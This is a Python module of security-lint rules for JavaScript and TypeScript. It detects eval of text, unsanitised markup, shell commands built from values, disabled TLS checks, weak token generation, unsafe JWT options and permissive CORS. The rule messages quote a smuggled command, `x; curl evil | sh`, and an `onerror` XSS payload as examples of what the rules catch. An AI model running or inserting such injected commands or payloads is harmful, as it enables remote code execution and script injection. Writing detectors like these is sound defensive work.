"""JavaScript and TypeScript that let a stranger do more than they may."""

import re

from ast_grep_py import SgNode

from core.analyzers.rules import sql
from core.analyzers.rules.javascript.nodes import CALL, argument, is_constant
from core.analyzers.rules.rule import UNGUESSABLE, Rule, called, enclosing, field_text, mentions
from core.models import Category, Severity

_MADE_SAFE = r"(?i)sanitiz|sanitis|purify|escape|encode|trustedhtml|createHTML"


def _runs_given_text(node: SgNode) -> bool:
    """Judge `eval(x)`, `new Function(…, x)` and `setTimeout("…" + x)`."""
    arguments = node.field("arguments")
    values = arguments.named_children() if arguments else []
    if node.kind() == "new_expression":
        return bool(values) and not is_constant(values[-1])
    first = values[0] if values else None
    if field_text(node, "function").endswith(("setTimeout", "setInterval")):
        return first is not None and _is_put_together(first)
    return not is_constant(first)


def _is_put_together(node: SgNode | None) -> bool:
    """Tell whether a node is text made of parts, one of which is a value."""
    return (
        node is not None
        and node.kind() in {"template_string", "binary_expression"}
        and node.find(any=[{"kind": "string"}, {"kind": "string_fragment"}]) is not None
        and not is_constant(node)
    )


def _is_unsafe_html(node: SgNode) -> bool:
    """Judge the value that becomes markup, by the kind of the place it goes to."""
    if node.kind() == "assignment_expression":
        value = node.field("right")
    elif node.kind() == "pair":
        value = node.field("value")
    else:
        value = argument(node, 0 if ".write" in field_text(node, "function") else 1)
    return not is_constant(value) and not mentions(value, _MADE_SAFE)


def _runs_a_shell_line(call: SgNode) -> bool:
    first = argument(call, 0)
    file_uses_it = mentions(call.get_root().root(), r"child_process|shelljs|execa")
    return file_uses_it and _is_put_together(first)


def _is_not_tagged(node: SgNode) -> bool:
    """Leave tagged templates alone: their tag binds the values."""
    parent = node.parent()
    tagged = (
        node.kind() == "template_string"
        and parent is not None
        and parent.kind() == CALL
        and field_text(parent, "arguments") == node.text()
    )
    return not tagged and sql.builds_sql(node)


def _makes_a_secret(call: SgNode) -> bool:
    holder = enclosing(call, "variable_declarator", "assignment_expression", "pair")
    name = ""
    if holder is not None:
        name = field_text(holder, "name") or field_text(holder, "left") or field_text(holder, "key")
    function = enclosing(call, "function_declaration", "method_definition")
    return any(
        re.search(UNGUESSABLE, text)
        for text in (name, field_text(function, "name") if function else "")
    )


RULES: tuple[Rule, ...] = (
    Rule(
        id="sql-from-values",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title=sql.TITLE,
        body=sql.BODY,
        match={
            "any": [
                {"kind": "template_string", "has": {"kind": "template_substitution"}},
                {"kind": "binary_expression", "has": {"regex": r"^\+$"}},
            ]
        },
        keep=_is_not_tagged,
        outside_tests=True,
        needs=sql.NEEDS,
    ),
    Rule(
        id="eval-of-value",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="Text is run as code",
        body=(
            "Whoever controls this text runs any script with the rights of this page or process. "
            "Parse data with `JSON.parse`, pass functions instead of text, or look the operation "
            "up in a map."
        ),
        match={
            "any": [
                called(r"(?:(?:window|globalThis|self)\.)?(?:eval|setTimeout|setInterval)", CALL),
                {"kind": "new_expression", "has": {"field": "constructor", "regex": "^Function$"}},
            ]
        },
        keep=_runs_given_text,
        outside_tests=True,
        needs=r"\beval\b|setTimeout|setInterval|\bFunction\b",
    ),
    Rule(
        id="html-from-value",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A value becomes markup without being cleaned",
        body=(
            "A value such as `<img src=x onerror=…>` runs script in the reader's session. Set "
            "`textContent`, render it as a child, or clean it with a sanitiser such as DOMPurify "
            "first."
        ),
        match={
            "any": [
                {
                    "kind": "assignment_expression",
                    "has": {"field": "left", "regex": r"\.(?:innerHTML|outerHTML|srcdoc)$"},
                },
                {"kind": "pair", "has": {"field": "key", "regex": r"^[\"']?__html[\"']?$"}},
                called(r"[\w.\[\]()?!]+\.insertAdjacentHTML|document\.write(?:ln)?", CALL),
            ]
        },
        keep=_is_unsafe_html,
        outside_tests=True,
        needs=r"innerHTML|outerHTML|srcdoc|__html|insertAdjacentHTML|document\.write",
    ),
    Rule(
        id="shell-from-values",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A shell interprets a value that is put into its command",
        body=(
            "A value such as `x; curl evil | sh` becomes a second command. Use `execFile` or "
            "`spawn` with the arguments as an array and without `shell: true`."
        ),
        match=called(r"(?:\w+\.)?exec(?:Sync|Async)?", CALL),
        keep=_runs_a_shell_line,
        outside_tests=True,
        needs=r"child_process|shelljs|execa",
    ),
    Rule(
        id="tls-not-verified",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="The server's certificate is not verified",
        body=(
            "Anyone on the way can answer in the server's place, read what is sent and change the "
            "reply. For a private authority pass its certificate as `ca`, and leave verification "
            "on."
        ),
        match={
            "any": [
                {"kind": "pair", "regex": r"^[\"']?rejectUnauthorized[\"']?\s*:\s*false$"},
                {
                    "kind": "assignment_expression",
                    "regex": r"NODE_TLS_REJECT_UNAUTHORIZED[\"'\]]*\s*=\s*[\"']?0",
                },
            ]
        },
        outside_tests=True,
        needs=r"rejectUnauthorized|NODE_TLS_REJECT_UNAUTHORIZED",
    ),
    Rule(
        id="guessable-secret",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A secret comes from a predictable generator",
        body=(
            "The state of `Math.random` can be computed from a few outputs, and with it the tokens "
            "of other people. Use `crypto.randomUUID()` or `crypto.getRandomValues()`."
        ),
        match=called(r"Math\.random", CALL),
        keep=_makes_a_secret,
        outside_tests=True,
        needs=r"Math\.random",
    ),
    Rule(
        id="jwt-not-verified",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="The token is accepted without a signature or after its end",
        body=(
            "With `none` among the algorithms anyone can write a token that claims to be any user; "
            "with `ignoreExpiration` a stolen one works for ever. Name the one algorithm that the "
            "issuer uses."
        ),
        match={
            "kind": "pair",
            "any": [
                {"regex": r"(?i)^algorithms\s*:\s*\[[^\]]*[\"']none[\"']"},
                {"regex": r"^ignoreExpiration\s*:\s*true$"},
            ],
        },
        outside_tests=True,
        needs=r"algorithms|ignoreExpiration",
    ),
    Rule(
        id="cors-for-everyone",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="Every website may call this with the visitor's cookies",
        body=(
            "Echoing any origin together with credentials lets a hostile page read a signed-in "
            "visitor's data. List the origins that are trusted."
        ),
        match={
            "kind": "object",
            "all": [
                {"has": {"kind": "pair", "regex": r"^credentials\s*:\s*true$"}},
                {"has": {"kind": "pair", "regex": r"^origin\s*:\s*(?:true|[\"']\*[\"'])$"}},
            ],
        },
        outside_tests=True,
        needs=r"credentials",
    ),
)
